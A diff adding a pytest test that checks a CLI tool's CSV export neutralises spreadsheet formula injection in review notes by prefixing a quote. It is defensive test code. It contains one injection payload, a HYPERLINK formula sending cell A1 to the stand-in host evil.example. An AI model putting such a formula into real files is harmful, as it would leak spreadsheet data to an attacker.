@@ -203,6 +203,34 @@ def test_review_notes_from_the_command_line_and_from_a_review_file(
     assert "Review note" not in _popup_html({**row, "review_note": None}, None, False, None, None)
 
 
+def test_a_note_a_spreadsheet_would_run_as_a_formula_is_exported_behind_a_quote(
+    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Found in a security walkthrough: a review note `=HYPERLINK(...)` (or +, -, @) went into
+    the CSV export as it was, and a spreadsheet opening it ran it. Written behind a quote, it
+    is read back by `inventory review` as it was; the GeoJSON, which no spreadsheet runs,
+    keeps it as it is, and so do numbers such as a negative dVV."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert main(_args(config, "dismiss", "4", "--note", formula)) == 0
+    assert main(_args(config, "confirm", "2", "--note=-2+3")) == 0
+    assert main(_args(config, "confirm", "1", "--note", "'quoted' on purpose")) == 0
+    capsys.readouterr()
+    table = _export(config, "review.csv")
+    with table.open(newline="", encoding="utf-8") as opened:
+        rows = {int(r["fid"]): r for r in csv.DictReader(opened)}
+    assert rows[4]["review_note"] == "'" + formula
+    assert rows[2]["review_note"] == "'-2+3"
+    assert rows[1]["review_note"] == "'quoted' on purpose"  # no formula: left as it is
+    assert all(not r["dVV_mean"].startswith("'") for r in rows.values())
+    geojson = json.loads(_export(config, "review.geojson").read_text())
+    by_fid = {f["properties"]["fid"]: f["properties"] for f in geojson["features"]}
+    assert by_fid[4]["review_note"] == formula
+    # read back unchanged: no note changes
+    assert main(_args(config, "review", str(table))) == 0
+    assert "review note(s)" not in capsys.readouterr().out
+    assert _notes(config)[4] == formula and _notes(config)[2] == "-2+3"
+
+
 def test_review_of_a_geojson_export_refuses_a_bad_row_whole(
     config: MonitorConfig, capsys: pytest.CaptureFixture[str]
 ) -> None:
